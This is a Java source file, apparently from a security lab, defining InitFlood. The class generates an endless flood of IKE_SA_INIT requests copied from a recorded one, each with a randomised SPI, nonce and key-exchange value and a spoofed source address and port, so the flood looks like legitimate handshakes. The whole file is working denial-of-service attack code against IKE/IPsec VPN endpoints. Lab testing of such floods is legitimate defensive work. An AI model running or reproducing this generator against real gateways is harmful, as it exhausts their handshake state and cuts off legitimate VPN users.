package org.sallyport.lab.attack;

import java.nio.ByteBuffer;
import java.util.SplittableRandom;

/**
 * IKE_SA_INIT requests without end, each from another address with an SPI, a nonce and a public key of its own, made
 * after a recorded one: nothing tells one of them from the request of somebody who means it. The same request and seed
 * give the same flood. Not thread safe.
 */
public final class InitFlood {
    private static final int GROUP_HEADER = 4;

    private final Datagram recorded;
    private final SplittableRandom random;

    public InitFlood(Datagram recorded, long seed) {
        if (!new IkeMessage(recorded.payload(), recorded.ikeOffset()).isInitRequest()) {
            throw new IllegalArgumentException("a flood starts from an IKE_SA_INIT request");
        }
        this.recorded = recorded;
        this.random = new SplittableRandom(seed);
    }

    /** The next request. */
    public Datagram next() {
        byte[] content = recorded.bytes();
        IkeMessage message = new IkeMessage(ByteBuffer.wrap(content), recorded.ikeOffset());
        message.initiatorSpi(random.nextLong() | 1);
        for (IkeMessage.Payload payload : message.payloads()) {
            switch (payload.type()) {
                case IkeMessage.NONCE -> randomise(content, payload, 0);
                case IkeMessage.KEY_EXCHANGE -> randomise(content, payload, GROUP_HEADER);
                default -> {
                    // It says the same for everybody.
                }
            }
        }
        return recorded.with(content)
                .from(Elsewhere.address(random), random.nextBoolean() ? 500 : 1024 + random.nextInt(60_000));
    }

    private void randomise(byte[] content, IkeMessage.Payload payload, int keep) {
        byte[] fresh = new byte[Math.max(0, payload.bodyLength() - keep)];
        random.nextBytes(fresh);
        System.arraycopy(fresh, 0, content, payload.bodyOffset() + keep, fresh.length);
    }
}
